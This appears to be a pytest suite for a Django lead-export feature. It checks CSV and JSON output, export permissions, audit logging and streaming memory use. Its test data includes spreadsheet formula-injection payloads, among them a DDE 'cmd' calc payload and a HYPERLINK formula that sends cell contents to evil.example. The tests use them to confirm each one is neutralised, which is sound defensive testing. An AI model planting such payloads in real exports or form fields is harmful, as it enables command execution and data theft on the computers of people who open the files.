"""Leads as a file: safe in every spreadsheet, whole, and in flat memory."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from typing import Any

import pytest
from django.test import AsyncClient, Client
from django.urls import reverse

from leads.capture import capture_lead
from leads.contacts import columns
from leads.export.cells import DANGEROUS, safe
from leads.export.files import csv_parts, json_parts
from leads.export.rows import COLUMNS, PAGE, Wanted
from leads.models import Consent, Enquiry, FitAnswer, Lead, LeadAddress, LeadNote
from ops.audit.rows import AuditEntry
from tests.leads.people import lead
from tests.ops.team import people

pytestmark = pytest.mark.django_db

NASTY = [
    "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1",
    "\u200b=1", "\ufeff=1", "＝1+1", "＋1", "－1", "＠SUM(A1)", '"=1', "'=1", "\x00=1",
    '=HYPERLINK("https://evil.example?x="&A1)', "+1-800-555",
]  # fmt: skip


@pytest.mark.parametrize("text", NASTY)
def test_no_cell_begins_like_a_formula(text: str) -> None:
    for phone in (False, True):
        cell = safe(text, phone=phone)
        assert cell.startswith("'"), repr(cell)


@pytest.mark.parametrize(
    "text",
    ["Ana", "Łukasz Żółć", "王小明", "محمد", "3 - 4", "a+b@example.org", "", "O’Neil", "(=)", "0"],
)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert safe(text) == text


@pytest.mark.parametrize("number", ["+46 8 555 010 20", "+46855501020", "+1 (555) 010.2030"])
def test_a_phone_number_with_a_plus_stays_readable(number: str) -> None:
    assert safe(number, phone=True) == number
    assert safe(f"{number}=A1", phone=True).startswith("'")


@pytest.mark.parametrize("text", ["a;=1+1", 'a;"=1', "a\t=1", "a\n=1", "a,@SUM(1)", "a;+cmd"])
def test_a_file_cut_at_another_separator_runs_nothing(text: str) -> None:
    held = io.StringIO()
    csv.writer(held, quoting=csv.QUOTE_ALL).writerow(["x", safe(text)])
    for separator in ",;\t|":
        for cell in held.getvalue().replace("\n", separator).split(separator):
            assert not cell.strip().strip('"').strip().startswith(("=", "+", "@")), cell


def rows(text: str, separator: str = ",") -> list[dict[str, str]]:
    assert text.startswith("\ufeff"), "Excel takes it for UTF-8 only so"
    return list(csv.DictReader(io.StringIO(text[1:], newline=""), delimiter=separator))


def body(answer: Any) -> str:
    return b"".join(answer.streaming_content).decode()


@pytest.fixture
def maya() -> Client:
    return people.signed_in(people.owner("maya"))


def test_the_spreadsheet_has_everybody_real_and_says_who_took_it(maya: Client) -> None:
    capture_lead(
        email="ana@example.org", name="=Ana", phone="+46 8 1234", message="Line one\r\n\"two\"",
        consent=True, source="api", utm={"source": "news"}, page_url="https://coach.se/",
    )  # fmt: skip
    capture_lead(email="test@example.org", consent=True, source="api", is_test=True)
    found = Lead.objects.get(email="ana@example.org")
    Enquiry.objects.create(lead=found, message="a test", source="api", is_test=True)
    where = reverse("admin:leads_lead_export")
    page = maya.get(where)
    assert page.status_code == 200 and not AuditEntry.objects.filter(kind="export").exists()
    answer = maya.post(where, {"form": "csv", "separator": "semicolon"})
    assert answer["Content-Disposition"].startswith('attachment; filename="leads-')
    assert answer["Cache-Control"].startswith("no-store")
    (row,) = rows(body(answer), ";")
    assert tuple(row) == COLUMNS
    assert (row["name"], row["phone"], row["email"]) == ("'=Ana", "+46 8 1234", "ana@example.org")
    assert row["last_message"] == 'Line one\r\n"two"'
    assert (row["first_source"], row["enquiries"], row["status"]) == ("news", "1", "New")
    assert "may use these details" in row["agreed_to"]
    entry = AuditEntry.objects.get(kind="export")
    assert (entry.person, entry.object_type) == ("maya", "leads.lead")


def test_notes_and_answers_stand_in_one_cell_each_and_are_not_imported_again(
    maya: Client,
) -> None:
    capture_lead(email="ana@example.org", consent=True, source="api")
    found = Lead.objects.get()
    LeadNote.objects.create(lead=found, text="Rang her", by_name="bea")
    LeadNote.objects.create(lead=found, text="=HYPERLINK(1)\n=1+1", by_name="maya")
    LeadNote.objects.create(lead=found, text="x y " * 20_000, by_name="maya")
    FitAnswer.objects.create(lead=found, asked="What is your goal?", text="=cmd|' /C calc'!A0")
    (row,) = rows(body(maya.post(reverse("admin:leads_lead_export"), {"form": "csv"})))
    assert row["fit_answers"] == "What is your goal? =cmd|' /C calc'!A0"
    assert len(row["notes_taken"]) < 32_767 and row["notes_taken"].endswith(" …")
    LeadNote.objects.filter(text__startswith="x y").delete()
    (row,) = rows(body(maya.post(reverse("admin:leads_lead_export"), {"form": "csv"})))
    lines = row["notes_taken"].split("\n")
    assert len(lines) == 3 and lines[1].startswith("'=1+1") and lines[2].endswith("bea: Rang her")
    assert not {columns._by_heading(name) for name in ("fit_answers", "notes_taken")} - {""}


def test_json_beside_it_is_exact_and_whole(maya: Client) -> None:
    capture_lead(email="ana@example.org", name="=Ana", message="Hi", consent=True, source="api")
    LeadNote.objects.create(lead=Lead.objects.get(), text="She is nice", by_name="bea")
    answer = maya.post(reverse("admin:leads_lead_export"), {"form": "json"})
    (one,) = json.loads(body(answer))["leads"]
    assert (one["name"], one["notes"][0]["text"]) == ("=Ana", "She is nice")
    assert one["enquiries"][0]["message"] == "Hi" and one["consents"][0]["version"]


def test_without_leads_both_are_whole_files() -> None:
    assert rows("".join(csv_parts(Wanted()))) == []
    assert json.loads("".join(json_parts(Wanted())))["leads"] == []


def test_what_is_wanted_is_what_comes(maya: Client) -> None:
    lead("1@example.org", status="won", tagged="vip")
    lead("2@example.org", tagged="vip")
    lead("3@example.org", status="lost")
    where = reverse("admin:leads_lead_export")

    def emails(**wanted: Any) -> set[str]:
        answer = maya.post(where, {"form": "csv", **wanted})
        return {row["email"][0] for row in rows(body(answer))}

    tag = Lead.objects.get(email="1@example.org").tags.get().pk
    assert emails() == {"1", "2", "3"}
    assert emails(status="open") == {"2"} and emails(status="won") == {"1"}
    assert emails(tag=tag) == {"1", "2"}
    bad = maya.post(where, {"form": "exe", "status": "gone"})
    assert bad.status_code == 200 and "Select a valid choice" in bad.content.decode()


def test_nobody_but_an_owner_takes_them_out() -> None:
    where = reverse("admin:leads_lead_export")
    client = people.signed_in(people.assistant())
    assert client.post(where, {"form": "csv"}).status_code == 403
    assert Client().post(where, {"form": "csv"}).status_code == 302
    assert not AuditEntry.objects.filter(kind="export").exists()


def many(count: int) -> None:
    Lead.objects.bulk_create(
        (Lead(email=f"{n}@example.org", email_key=f"{n}@example.org", name="N" * 50)
         for n in range(count)),
        batch_size=1000,
    )  # fmt: skip


def test_pages_leave_nobody_out_and_take_nobody_twice() -> None:
    many(PAGE * 2 + 7)
    found = [row["email"] for row in rows("".join(csv_parts(Wanted())))]
    assert len(found) == len(set(found)) == PAGE * 2 + 7


def test_memory_stays_flat_however_many_there_are() -> None:
    """The whole text of these is several times what may be held."""
    many(6000)
    next_part = csv_parts(Wanted())
    next(next_part)
    next(next_part)
    tracemalloc.start()
    size = sum(len(part) for part in next_part)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert size > 1_000_000
    assert peak < 6_000_000


@pytest.mark.django_db(transaction=True)
async def test_under_asgi_it_is_streamed_page_by_page() -> None:
    from asgiref.sync import sync_to_async

    await sync_to_async(many)(PAGE + 1)
    owner = await sync_to_async(people.owner)("maya")
    client = AsyncClient()
    await client.aforce_login(owner)
    answer = await client.post(reverse("admin:leads_lead_export"), {"form": "csv"})
    parts = [part async for part in answer]  # type: ignore[attr-defined]
    assert len(parts) == 3
    assert len(rows(b"".join(parts).decode())) == PAGE + 1


def test_no_column_lets_a_formula_through(maya: Client) -> None:
    """Whatever stands in a field, and whoever wrote it there: each cell of the file is text."""
    evil = '=HYPERLINK("https://evil.example")'
    found = lead("ana@example.org", name=evil, phone="+cmd|' /C calc'!A0", tagged="@SUM(A1)")
    Lead.objects.update(
        next_step=evil, status="new",
        first_touch=dict.fromkeys(
            ("page_url", "referrer", "utm_source", "utm_medium", "utm_campaign"), evil
        ),
        last_touch={"page_url": evil, "utm_source": evil}, email=evil,
        owner=people.person("=1+1", is_staff=True),
    )  # fmt: skip
    Enquiry.objects.create(lead=found, message=evil, source="api")
    Consent.objects.create(lead=found, text=evil, version="-1+1", source="api")
    LeadAddress.objects.create(lead=found, email="=x@example.org", email_key="=x@example.org")
    text = "".join(csv_parts(Wanted()))
    (row,) = rows(text)
    assert tuple(row) == COLUMNS and len(row) == len(COLUMNS)
    begun = {name for name, cell in row.items() if cell[:1] in DANGEROUS and cell}
    assert begun == set()
    bent = {name for name, cell in row.items() if cell.startswith("'")}
    assert bent >= {
        "email", "other_addresses", "name", "phone", "tags", "next_step", "first_page",
        "first_referrer", "first_source", "first_medium", "first_campaign", "last_page",
        "last_source", "last_message", "agreed_version", "agreed_to",
    }  # fmt: skip
    assert not any(heading[:1] in DANGEROUS for heading in COLUMNS)
